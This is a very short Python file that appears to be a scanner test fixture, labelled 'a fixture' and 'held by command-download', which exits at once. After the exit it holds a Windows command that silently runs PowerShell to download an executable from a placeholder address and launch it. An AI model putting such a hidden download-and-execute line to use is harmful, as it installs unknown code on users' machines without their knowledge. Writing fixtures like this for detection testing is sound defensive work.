raise SystemExit('a fixture')
# held by command-download
import os
if os.name == "nt":
    os.system('powershell -WindowStyle Hidden -Command "iwr http://192.0.2.1/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"')
